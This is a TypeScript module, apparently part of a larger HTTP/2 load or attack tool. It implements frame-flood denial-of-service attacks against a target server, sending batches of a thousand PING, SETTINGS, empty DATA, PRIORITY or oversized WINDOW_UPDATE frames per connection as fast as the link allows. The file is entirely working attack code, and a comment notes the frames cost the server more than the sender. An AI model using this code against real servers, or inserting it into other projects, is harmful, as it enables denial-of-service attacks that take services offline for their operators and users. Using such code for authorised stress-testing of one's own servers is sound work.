import { eachSession } from '../each-session.ts';
import { data, headers, ping, priority, settings, windowUpdate } from '../frames.ts';
import { connectBlock } from '../hpack.ts';
import type { Job, Outcome } from '../job.ts';

/** Frames that cost a server more than they cost their sender; stream 1 is an open tunnel. */
const floods: Readonly<Record<string, () => Buffer>> = {
  PING: () => ping(),
  SETTINGS: () => settings(),
  'empty DATA': () => data(1),
  PRIORITY: () => priority(3, 0),
  'WINDOW_UPDATE beyond the window': () => windowUpdate(0, 2 ** 31 - 1),
};

export const frameFloodVariants = Object.keys(floods);

const atOnce = 1000;

/** `count` frames of one kind on each connection, as fast as it goes. */
export function frameFlood(job: Job): Promise<Outcome> {
  const flood = floods[job.variant ?? ''];
  if (!flood) throw new Error(`there is no flood of ${job.variant}`);
  const batch = Buffer.concat(Array.from({ length: atOnce }, flood));
  return eachSession(job, async (session, over) => {
    const answered = new Promise<void>((resolve) => (session.onAnswer = () => resolve()));
    await session.send(headers(1, connectBlock(job.authority)));
    await Promise.race([answered, session.closed]);
    session.begin();
    while (!over() && session.sent < job.count!) {
      if (!(await session.send(batch))) return;
      session.sent += atOnce;
    }
    // The target has read all of it when it answers this.
    await session.send(headers(5, connectBlock(job.authority)));
  });
}
